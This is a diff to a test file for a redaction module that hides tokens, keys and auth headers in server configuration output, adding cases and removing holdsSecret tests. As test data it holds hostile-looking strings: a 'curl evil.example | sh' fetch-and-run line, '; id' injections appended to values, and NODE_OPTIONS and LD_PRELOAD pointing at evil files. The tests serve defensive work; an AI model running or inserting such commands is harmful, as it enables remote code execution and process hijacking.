@@ -1,7 +1,7 @@
 import { seed } from "@fairlead/test-servers";
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { hideInArguments, hideInUrl, hideLiteral, holdsSecret, redact } from "../../src/output/server-redaction.ts";
+import { hideInArguments, hideInUrl, hideLiteral, redact } from "../../src/output/server-redaction.ts";
 
 test.each([
   ["plain", "(hidden)"],
@@ -50,6 +50,21 @@ test.each([
     ["--header", "Authorization: (hidden)"],
   ],
   [["ghp_0123456789abcdef"], ["(hidden)"]],
+  // No more is hidden than the value: the rest may be code.
+  [["API_TOKEN=x; curl evil.example | sh"], ["API_TOKEN=(hidden); curl evil.example | sh"]],
+  [["run --key=abc A_TOKEN=def&&next"], ["run --key=(hidden) A_TOKEN=(hidden)&&next"]],
+  [["Authorization: Bearer abc; id"], ["Authorization: (hidden); id"]],
+  [["ghp_0123456789abcdef; id"], ["(hidden); id"]],
+  [["-----BEGIN KEY-----\nabc=\n-----END KEY-----"], ["(hidden)-----END KEY-----"]],
+  [["x https://h.example/?token=abc; id"], ["x https://h.example/?token=(hidden); id"]],
+  [
+    ["--token", "/usr/bin/evil", "--key", "./evil", "--secret", "~/evil", "--key=../evil"],
+    ["--token", "/usr/bin/evil", "--key", "./evil", "--secret", "~/evil", "--key=../evil"],
+  ],
+  [
+    ["@scope/sk-tool", "sk-tool"],
+    ["@scope/sk-tool", "sk-tool"],
+  ],
   [
     ["--token-file", "/run/token"],
     ["--token-file", "/run/token"],
@@ -78,6 +93,48 @@ test.each([
   expect(hideInUrl(url)).toBe(shown);
 });
 
+test("variables that decide what is run are shown", () => {
+  const env = new Map([
+    ["NODE_OPTIONS", "--require ./evil.js"],
+    ["LD_PRELOAD", "/tmp/evil.so"],
+    ["MODE", "plain"],
+  ]);
+  expect(redact({ kind: "stdio", command: "x", args: [], env })).toMatchObject({
+    env: new Map([
+      ["NODE_OPTIONS", "--require ./evil.js"],
+      ["LD_PRELOAD", "/tmp/evil.so"],
+      ["MODE", "(hidden)"],
+    ]),
+  });
+});
+
+// With a pattern whose time grows with the square of the length, each of these takes minutes.
+const parts = [
+  "?",
+  "=",
+  "&",
+  ":",
+  "/",
+  "-",
+  "x",
+  " ",
+  "${",
+  "$",
+  "a://",
+  "?a",
+  "a=",
+  "a:",
+  "token=",
+  "eyJ",
+  "Bearer ",
+  "@",
+];
+test.each([...parts, "-----BEGIN-----"])("a text of a megabyte, made of %j, is no trouble", (part) => {
+  const text = part.repeat(1_000_000 / part.length);
+  for (const hostile of [text, `${text}!`, `token=${text}`, `https://${text}`])
+    expect(redact({ kind: "stdio", command: "x", args: [hostile], env: new Map([["A", hostile]]) }).kind).toBe("stdio");
+});
+
 describe("whatever the canary is hidden in", () => {
   const canary = "C4n4ryV4lu3";
   test("no value of a variable or header is shown", () => {
@@ -94,19 +151,4 @@ describe("whatever the canary is hidden in", () => {
     });
     fc.assert(check, { numRuns, seed: seed() });
   });
-});
-
-test.each([
-  [{ command: "x", env: { TOKEN: "abc" } }, true],
-  [{ command: "x", env: { TOKEN: "$T" } }, false],
-  [{ command: "x", env: { MODE: "fast" } }, false],
-  [{ command: "x", args: ["--token", "abc"] }, true],
-  [{ url: "https://me:abc@example.com" }, true],
-  [{ httpUrl: "https://example.com?key=abc" }, true],
-  [{ url: "https://example.com", headers: { "X-Api-Key": "abc" } }, true],
-  [{ url: "https://example.com", oauth: { clientSecret: "abc" } }, true],
-  [{ url: "https://example.com", oauth: { clientId: "abc" } }, false],
-  [{ command: 1, args: "x", env: null }, false],
-])("whether %j holds a secret", (entry, holds) => {
-  expect(holdsSecret(entry)).toBe(holds);
 });
